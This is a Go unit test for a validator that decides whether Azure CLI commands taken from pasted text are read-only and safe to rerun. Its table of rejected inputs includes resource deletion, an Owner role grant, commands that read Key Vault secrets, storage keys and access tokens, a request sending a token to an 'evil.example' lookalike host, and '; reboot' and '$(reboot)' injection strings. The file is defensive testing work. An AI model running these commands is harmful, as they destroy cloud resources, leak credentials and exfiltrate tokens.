package documents

import "testing"

// A command from a pasted text is shown only if it reads, prints no secret, and sends no token to a host in its
// arguments.
func TestAgain(t *testing.T) {
	for command, told := range map[string]bool{
		"az aks show -g rg -n c":                                                                    true,
		"az vmss list-instances -g rg -n s --query '[].name'":                                       true,
		"az rest --method get --url 'https://management.azure.com/subscriptions/s?api-version=1'":   true,
		"az rest -m GET -u '/subscriptions/s/providers' --query 'value[0]'":                         true,
		"az aks get-upgrades -g rg -n c":                                                            true,
		"az role assignment create --assignee x --role Owner":                                       false,
		"az aks delete -g rg -n c --yes":                                                            false,
		"az aks command invoke -g rg -n c --command list":                                           false,
		"az rest --method delete --url /subscriptions/s":                                            false,
		"az rest --method get --url /subscriptions/s --method delete":                               false,
		"az rest --method get --url https://evil.example/x --resource https://management.azure.com": false,
		"az rest --method get --url https://management.azure.com.evil.example/x":                    false,
		"az keyvault secret show --vault-name v -n s":                                               false,
		"az storage account keys list -n a":                                                         false,
		"az account get-access-token":                                                               false,
		"az aks get-credentials -g rg -n c --admin":                                                 false,
		"az aks show -g rg -n c; reboot":                                                            false,
		"az aks show -g $(reboot)":                                                                  false,
	} {
		if got := again(command); (got != "the same az command with -o json") != told {
			t.Errorf("%s: %s", command, got)
		}
	}
}
